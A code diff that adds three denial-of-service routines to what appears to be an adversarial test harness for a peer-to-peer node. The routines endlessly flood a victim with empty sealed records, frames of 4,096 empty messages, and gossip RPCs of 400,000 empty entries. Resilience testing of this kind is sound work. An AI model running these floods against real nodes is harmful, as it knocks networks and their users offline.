@@ -201,6 +201,15 @@ async def _pings(stranger: Stranger, found: Line) -> None:
         stranger.count("muxer pings", 1000)
 
 
+async def _empty_records(stranger: Stranger, found: Line) -> None:
+    """Seal records that carry nothing, which no layer above the channel ever sees."""
+    channel = found.connection.muxed_conn.secured_conn.channel
+    while True:
+        async with channel._writing:
+            await channel._raw.send(b"".join(channel._sealer.seal(b"") for _ in range(2000)))
+        stranger.count("empty records", 2000)
+
+
 async def _streams(stranger: Stranger, found: Line) -> None:
     """Open streams that ask for nothing, as many as the victim takes."""
     while True:
@@ -249,6 +258,15 @@ async def _junk_frames(stranger: Stranger, found: Line) -> None:
         stranger.count("junk frames")
 
 
+async def _empty_messages(stranger: Stranger, found: Line) -> None:
+    """Send frames of 12 KB with 4,096 messages that hold nothing."""
+    stream = await found.open(f"lane/{Lane.BULK:d}")
+    full = frame(join_frame([encode_message(Transactions(()))] * 4096))
+    while True:
+        await stream.write(full)
+        stranger.count("frames of empty messages")
+
+
 async def _requests(stranger: Stranger, found: Line) -> None:
     """Ask for blocks and bodies without end, and read the answers."""
     protocols = (catchup.PROTOCOL, fetcher.PROTOCOL, "ping", "peers")
@@ -272,6 +290,16 @@ async def _junk_gossip(stranger: Stranger, found: Line) -> None:
     while True:
         await stream.write(b"\x05\x0a\xff\xff\xff\xff")
         stranger.count("junk rpcs")
+
+
+async def _empty_gossip(stranger: Stranger, found: Line) -> None:
+    """Send RPCs of 400,000 offers of nothing."""
+    stream = await found.open(MESHSUB)
+    control = b"\x0a\x00" * 400_000
+    body = b"\x1a" + encode_varint(len(control)) + control
+    while True:
+        await stream.write(encode_varint(len(body)) + body)
+        stranger.count("empty RPCs")
 
 
 async def _forged_gossip(stranger: Stranger, found: Line) -> None:
@@ -383,13 +411,16 @@ ATTACKS: Final[dict[str, Attack]] = {
     "slow handshakes": slow_handshakes,
     "junk on sockets": junk_on_sockets,
     "muxer pings": on_lines(_pings),
+    "empty records": on_lines(_empty_records),
     "idle streams": on_lines(_streams),
     "rapid resets": on_lines(_rapid_resets),
     "zero windows": on_lines(_zero_windows),
     "oversize frames": on_lines(_oversize_frames),
     "junk frames": on_lines(_junk_frames),
+    "empty messages": on_lines(_empty_messages),
     "requests": on_lines(_requests),
     "junk gossip": on_lines(_junk_gossip),
+    "empty gossip": on_lines(_empty_gossip),
     "forged gossip": on_lines(_forged_gossip),
     "gossip flood": on_lines(_gossip_flood(_junk)),
     "forged transactions": on_lines(_gossip_flood(_forged)),
